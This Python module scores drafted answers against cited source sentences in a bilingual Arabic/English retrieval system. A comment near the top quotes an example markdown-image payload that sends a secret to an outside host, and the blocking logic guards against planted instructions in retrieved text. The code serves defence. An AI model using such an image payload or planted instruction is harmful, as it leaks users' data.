"""The claim verifier: whether a draft's claim holds, given the sentence it cites.

A whole-sentence embedding cosine cannot tell "430 miles" from "770 kilometres" when the claim
is English and the sentence Arabic. Across scripts the verifier reads signals that survive the
change of language: quantities (rag.quantities) and names (rag.claims), coverage of the claim's
tokens by the sentence's tokens in the embedding model's own token space (BERTScore-style
recall, also over only the tokens the question does not already have), the whole-sentence
cosine, and whether a "how many"/"when" question got a quantity. A logistic model fitted on
labelled drafts (benchmarks/fit_verifier.py writes rag/verifier.json) turns them into one
probability. In one script the share of the claim's words found in the sentence separated right
from wrong as well or better on the seed questions (ROC AUC 0.78 against the model's 0.75),
so it is kept there, with its threshold.

Some claims are no answer whatever the score: one that restates the question, one that cites
a sentence addressing the assistant (a planted instruction), one with a link, image or markup
the sentence does not hold, one with nothing in it.
"""

from __future__ import annotations

import json
import math
import re
from dataclasses import asdict, dataclass
from functools import lru_cache
from pathlib import Path

import numpy as np

from .arabic import normalize, tokenize, written_forms
from .citations import MARKER, different_scripts, word_coverage
from .claims import addresses_assistant, content_words, name_alignment, restates_question
from .embedder import Embedder
from .errors import ConfigError
from .language import arabic_share
from .quantities import quantities, quantities_supported, supports, without_quantities
from .untrusted import has_markup

# Markdown images and links and HTML tags are never an answer: even copied from a cited
# sentence, an image URL is fetched by whatever renders the answer (a planted
# "![صورة](http://host/x?data=SECRET)" would carry data out). A bare address may be an answer
# ("the ministry's site is www.mofa.gov"), so it needs the cited sentence to hold it.
_ADDRESS = re.compile(r"https?://\S+|www\.\S+", re.IGNORECASE)


@dataclass
class Signals:
    """What the verifier reads from one (claim, cited sentence, question)."""

    lexical: float  # share of the claim's words in the sentence (meaningful in one script)
    novel_lexical: float  # the same over the claim's words that the question does not have
    dense: float  # cosine of the claim and the sentence
    align: float  # mean over the claim's tokens of the best cosine with a sentence token
    novel_align: float  # the same over the claim's tokens unlike any of the question's
    cross: bool  # claim and sentence in different scripts (English over Arabic)
    quantities: float | None  # share of the claim's numbers/dates the sentence states
    names: float | None  # share of the claim's Latin names that align with the sentence's
    wants_quantity: bool = False  # "how many", "when", "كم", "متى": the answer is a quantity
    blocked: str = ""  # why no score can make it an answer ("restates the question", ...)

    def features(self) -> list[float]:
        """In the order of `FEATURES` (the logistic model's inputs, for cross-script claims)."""
        q, n = self.quantities, self.names
        return [self.dense, self.align, self.novel_align,
                float(q is not None), (1.0 - q) if q is not None else 0.0,
                float(n is not None), (1.0 - n) if n is not None else 0.0,
                float(self.wants_quantity and q is None)]


FEATURES = ("dense", "align", "novel_align", "has_quantity", "quantity_missing", "has_name",
            "name_missing", "quantity_wanted_missing")
# A claim token this close to a question token was copied from the question, not found.
QUESTION_COPY = 0.9
WANTS_QUANTITY = re.compile(r"\b(how (many|much|long|far|old)|when|what (year|date|day|time)|"
                             r"which (year|date|day))\b|(^|\s)[وف]?(كم|متى|بكم)(\s|$)|"
                             r"(أي|ما) (عام|سنة|تاريخ|يوم)", re.IGNORECASE)


@dataclass
class VerifierModel:
    """The fitted logistic model (cross-script claims) and the two thresholds."""

    weights: list[float]
    bias: float
    threshold_same: float  # word coverage, claim and sentence in one script
    threshold_cross: float  # probability, claim and sentence in different scripts
    features: tuple[str, ...] = FEATURES
    fitted: dict | None = None  # what it was fitted on, and its figures

    @classmethod
    def load(cls, path: Path) -> VerifierModel:
        try:
            data = json.loads(Path(path).read_text(encoding="utf-8"))
            model = cls(**{**data, "features": tuple(data["features"])})
        except (OSError, ValueError, TypeError, KeyError) as e:
            raise ConfigError(f"Cannot read the claim verifier's model {path}: {e}. Set "
                              f"verifier_model to the shipped rag/verifier.json, or refit it "
                              f"with benchmarks/fit_verifier.py.") from e
        if model.features != FEATURES or len(model.weights) != len(FEATURES):
            raise ConfigError(f"{path} was fitted on the features {model.features}, this code "
                              f"computes {FEATURES}: refit it with benchmarks/fit_verifier.py.")
        return model

    def save(self, path: Path) -> None:
        data = {**asdict(self), "features": list(self.features)}
        Path(path).write_text(json.dumps(data, ensure_ascii=False, indent=1) + "\n",
                              encoding="utf-8")

    def probability(self, features: list[float]) -> float:
        z = self.bias + float(np.dot(self.weights, features))
        return 1.0 / (1.0 + math.exp(-max(-30.0, min(30.0, z))))


class ClaimVerifier:
    """Scores claims against cited sentences: `score` in 0..1, `supported` by threshold."""

    def __init__(self, embedder: Embedder, model: VerifierModel) -> None:
        self.embedder = embedder
        self.model = model

    @classmethod
    def from_file(cls, embedder: Embedder, path: Path) -> ClaimVerifier:
        return cls(embedder, _load_model(Path(path)))

    def signals(self, claim: str, sentence: str, question: str = "") -> Signals:
        claim = MARKER.sub("", claim).strip()
        latin = arabic_share(claim)
        vectors = self.embedder.embed_passages([claim, sentence])
        claim_tokens, sentence_tokens, *asked = self.embedder.embed_tokens(
            [claim, sentence, *([question] if question else [])])
        align = novel_align = 0.0
        if len(claim_tokens) and len(sentence_tokens):
            best = np.max(claim_tokens @ sentence_tokens.T, axis=1)
            align = float(np.mean(best))
            copied = np.max(claim_tokens @ asked[0].T, axis=1) >= QUESTION_COPY \
                if asked and len(asked[0]) else np.zeros(len(best), dtype=bool)
            novel_align = float(np.mean(best[~copied])) if (~copied).any() else 0.0
        words = set(tokenize(question))
        novel = " ".join(w for w in tokenize(claim) if w not in words)
        names = name_alignment(claim, sentence) if latin is not None and latin < 0.5 else None
        return Signals(lexical=word_coverage(claim, sentence),
                       novel_lexical=word_coverage(novel, sentence) if novel else 0.0,
                       dense=float(np.dot(vectors[0], vectors[1])), align=align,
                       novel_align=novel_align, cross=different_scripts(claim, sentence),
                       quantities=quantities_supported(claim, sentence), names=names,
                       wants_quantity=bool(WANTS_QUANTITY.search(question)),
                       blocked=_blocked(claim, sentence, question))

    def score(self, claim: str, sentence: str, question: str = "") -> float:
        """0 for a blocked claim; in one script the share of the claim's words the sentence
        holds (no model call); across scripts the logistic model's probability that the
        claim is right."""
        claim = MARKER.sub("", claim).strip()
        if _blocked(claim, sentence, question):
            return 0.0
        if not different_scripts(claim, sentence):
            # Words can be shared while a number is not: "2 سبتمبر" is not supported by a
            # sentence saying "4 سبتمبر" however many of its words it has.
            stated = quantities_supported(claim, sentence)
            if (stated or 1.0) < 1.0:
                return 0.0
            # "2 يوماً" for "تستغرق يومين": a measure the sentence states, said another way,
            # needs only the claim's other words there. Not a bare number: "2" for how many
            # beekeepers is not "ساعتين" (two hours) of a sentence about a marathon.
            if stated == 1.0 and all(q.unit or q.kind != "number" for q in quantities(claim)):
                rest = without_quantities(claim)
                return word_coverage(rest, sentence) if tokenize(rest) else 1.0
            return word_coverage(claim, sentence)
        return self.model.probability(self.signals(claim, sentence, question).features())

    def threshold(self, claim: str, sentence: str) -> float:
        cross = different_scripts(claim, sentence)
        return self.model.threshold_cross if cross else self.model.threshold_same


def _blocked(claim: str, sentence: str, question: str) -> str:
    if not tokenize(claim) and not re.search(r"\d", claim):
        return "says nothing"
    if has_markup(claim):
        return "a markdown link or image, or HTML"
    if addresses_assistant(sentence):
        return "the sentence addresses the assistant"
    if any(address.rstrip(".,;)") not in sentence for address in _ADDRESS.findall(claim)):
        return "a web address the sentence does not hold"
    if question and restates_question(claim, question, sentence):
        return "restates the question"
    if question and not WANTS_QUANTITY.search(question) and _says_only_when(claim, question):
        return "says when, and the question asks something else"
    if question and (swap := swapped_word(claim, question)):
        return f"says {swap[0]!r} where the question says {swap[1]!r}"
    if question and WANTS_QUANTITY.search(question) and _when_said(claim, sentence, question):
        return "gives the day it was said, not the day asked"
    if question and other_end(claim, sentence, question):
        return "gives the other end of the range the sentence states"
    return ""


def swapped_word(claim: str, question: str) -> tuple[str, str] | None:
    """(the claim's word, the question's) when the claim repeats a phrase of the question with
    its middle word changed and never says the question's: "وزير الخارجية الكوري الجنوبي"
    for "ما اسم وزير الدفاع الكوري الجنوبي؟" (the defence minister) names someone else."""
    def same(u: str, v: str) -> bool:  # "نها"/"لنها", "قو"/"قوت", "decide"/"decided"
        return u.startswith(v) or v.startswith(u) or u in written_forms(v) \
            or v in written_forms(u)

    said, asked = tokenize(claim), tokenize(question)
    for a, b, c in zip(said, said[1:], said[2:], strict=False):
        for x, y, z in zip(asked, asked[1:], asked[2:], strict=False):
            if same(a, x) and same(c, z) and not any(same(b, w) for w in asked) \
                    and not any(same(y, w) for w in said):
                return b, y
    return None


# Words of a time expression ("في سبتمبر من العام الماضي", "two weeks ago"), as content_words
# writes them.
_TIME_WORDS = content_words("العام الماضي المقبل القادم الشهر الأسبوع اليوم أمس غدا مساء صباح "
                            "year month week day ago last next yesterday today tomorrow "
                            "morning evening night earlier later")


def _says_only_when(claim: str, question: str) -> bool:
    """True when all the claim adds to the question is a time: "في سبتمبر من العام الماضي"
    for "ماذا تفقد كيم؟" (what did he inspect) answers a question nobody asked."""
    def is_time(word: str) -> bool:
        return word in _TIME_WORDS or (word.isdigit() and 1900 <= int(word) <= 2100) or any(
            q.kind in ("date", "month", "weekday") for q in quantities(word))

    new = content_words(claim) - content_words(question)
    return bool(new) and all(is_time(w) for w in new)


# A time between a verb of saying and what was said is when it was said: "وذكرت وسائل الإعلام،
# الثلاثاء، أن كيم غادر ... الأحد" (reported on Tuesday that he left on Sunday).
SAID_WHEN = re.compile(r"((?:يوم |اليوم )?(?:ال)?(?:اثنين|ثلاثاء|اربعاء|خميس|جمعه|سبت|احد)"
                        r"(?: \d{1,2} [^\W\d]+(?:/[^\W\d]+)?(?: \d{4})?)?)\s*[،,]?\s*"
                        r"(?:ان|انه|انها|انهم|مشيرا الي ان|مضيفا ان)\b")
SAYING = re.compile(r"\b(say|said|says|tell|told|warn|warned|announce|announced|report|"
                     r"reported|state|stated)\b|(^|\s)[وف]?(قال|يقول|ذكر|اعلن|حذر|صرح|اكد|افاد|"
                     r"نقل|اشار|تقول|قالت|ذكرت|اعلنت|حذرت|صرحت|اكدت|افادت|نقلت)", re.IGNORECASE)


def _when_said(claim: str, sentence: str, question: str) -> bool:
    """True when the claim's times are, in the sentence, only when something was said, and the
    question asks when something was done: "الثلاثاء" for "في أي يوم غادر كيم؟"."""
    times = {q for q in quantities(claim) if q.kind in ("weekday", "date")}
    if not times or SAYING.search(normalize(question)):
        return False
    plain = normalize(sentence)
    said = [m.group(1) for m in SAID_WHEN.finditer(plain)]
    if not said:
        return False
    when_said = set().union(*(quantities(t) for t in said))
    elsewhere = quantities(SAID_WHEN.sub(" ", plain))
    return all(any(supports(h, q) for h in when_said) and
               not any(supports(h, q) for h in elsewhere) for q in times)


# "من ~ 74000 … حتى نهاية العصر الجليدي (~ 11،600 BP)", "from 1939 to 1945": a range's two ends.
_RANGE = re.compile(r"(?:^|\s)(?:من|from)\s+(?P<start>[^.]{0,40}?\d[^.]{0,40}?)\s+"
                    r"(?:حتي|الي|until|to|till)\s+(?P<end>[^.]{0,60}?\d[\d،,.]*)", re.IGNORECASE)
_ASKS_END = re.compile(r"\b(end|ended|ends|finish|finished|until)\b|(^|\s)[وف]?(انتهي|انتهت|ينتهي|"
                       r"تنتهي|نهايه)(\s|$)", re.IGNORECASE)
_ASKS_START = re.compile(r"\b(begin|began|start|started|starts)\b|(^|\s)[وف]?(بدا|بدات|يبدا|تبدا|"
                         r"بدايه)(\s|$)", re.IGNORECASE)


def other_end(claim: str, sentence: str, question: str) -> bool:
    """True when the question asks when something ended (or began) and the claim gives only
    the sentence's other end of a range: "74000" for "When did the last glacial end?" from
    "lasted from ~74000 BP until the end of the ice age (~11,600 BP)"."""
    asked = normalize(question)
    ends, starts = bool(_ASKS_END.search(asked)), bool(_ASKS_START.search(asked))
    said = quantities(claim)
    if ends == starts or not said:
        return False
    for m in _RANGE.finditer(normalize(sentence)):
        other = quantities(m.group("start" if ends else "end"))
        wanted = quantities(m.group("end" if ends else "start"))
        if all(any(supports(h, q) for h in other) and
               not any(supports(h, q) for h in wanted) for q in said):
            return True
    return False


@lru_cache(maxsize=4)
def _load_model(path: Path) -> VerifierModel:
    return VerifierModel.load(path)
